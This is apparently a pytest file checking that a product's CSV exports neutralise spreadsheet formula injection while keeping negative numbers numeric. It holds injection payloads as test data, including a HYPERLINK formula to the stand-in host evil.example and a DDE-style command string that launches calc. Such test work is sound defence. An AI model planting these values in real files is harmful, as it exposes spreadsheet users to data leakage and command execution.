"""CSV files through the API, on each store: every CSV the product writes (the export, the coverage map's CSV, the
evidence template) runs no formula in a spreadsheet and keeps numbers numbers. The rows named C2, C3.. are those of
the outside security trial."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import httpx
from fastapi.testclient import TestClient

from caleido.api.keys import KeyStore
from caleido.graph.store import GraphStore
from tests.helpers import bearer, load

HEADER = "factor_name,factor_kind,outcome,effect_size,effect_measure,source_citation"
FORMULA = '=HYPERLINK("http://evil.example/?x","klik hier")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _upload(client: TestClient, keys: KeyStore, name: str, text: str) -> httpx.Response:
    return client.post(
        "/api/v1/evidence/import",
        headers=bearer(keys, "researcher"),
        files={"file": (name, text.encode(), "text/csv")},
    )


def _counts(store: GraphStore) -> tuple[int, int]:
    counts = store.counts()
    return counts.total_nodes, counts.total_links


def _rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv"), response.text
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _runnable(rows: list[dict[str, str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula: they start so and are not a plain number."""
    cells = [cell for row in rows for cell in row.values()]
    return [cell for cell in cells if cell.startswith(FORMULA_START) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?[0-9]*\.?[0-9]+([eE][+-]?[0-9]+)?", cell) is not None


# ---------------------------------------------------------------- writing


def test_c2_the_coverage_csv_runs_no_formula(client: TestClient, store: GraphStore, tmp_path: Path) -> None:
    data = tmp_path / "formula_intervention.yaml"
    data.write_text(
        "records:\n"
        "  - id: int-formula-test\n"
        "    class: Intervention\n"
        f"    label: {{nl: '{FORMULA}'}}\n"
        "    intervention_type: approach\n"
        "    source: src-u\n"
        "    locator: p. 1\n"
        "    status: accepted\n"
        "    links: [{rel: addresses, to: rf-1, source: src-u, locator: p. 1, status: accepted}]\n",
        encoding="utf-8",
    )
    load(store, data)
    rows = _rows(client.get("/api/v1/coverage", params={"format": "csv"}))
    (row,) = [r for r in rows if r["intervention"] == "int-formula-test"]
    assert row["intervention_label_nl"] == "'" + FORMULA
    assert row["findings"] == "0"
    assert _runnable(rows) == []


def test_c3_the_export_keeps_negative_numbers_numbers_and_runs_no_formula(client: TestClient, keys: KeyStore) -> None:
    text = f"{HEADER},notes\n@SUM(1+1),protective,-2+3,-0.16,r,=1+1,+cmd|' /C calc'!A0\n"
    (imported,) = _upload(client, keys, "negative.csv", text).json()["report"]
    nodes = _rows(client.get("/api/v1/export", params={"format": "csv", "part": "nodes"}))
    links = _rows(client.get("/api/v1/export", params={"format": "csv", "part": "links"}))
    (finding,) = [r for r in nodes if r["id"] == imported["finding"]]
    assert finding["effect_size"] == "-0.16"
    assert finding["outcome"] == "'-2+3"
    assert _runnable(nodes) == [] and _runnable(links) == []


def test_the_evidence_template_the_product_writes_is_what_the_import_reads(client: TestClient, keys: KeyStore) -> None:
    template = client.get("/evidence/template.csv").text
    header = next(csv.reader(io.StringIO(template)))
    row = {
        "factor_kind": "risk",
        "effect_size": "0.1",
        "n_studies": "3",
        "intervention": "int-1",
        "direction": "supports",
    }
    row |= {"grade": "not-assessed", "source_url": "https://example.org/"}
    line = ",".join(row.get(name, "x") for name in header)
    response = _upload(client, keys, "template.csv", template + line + "\r\n")
    assert response.status_code == 200, response.text
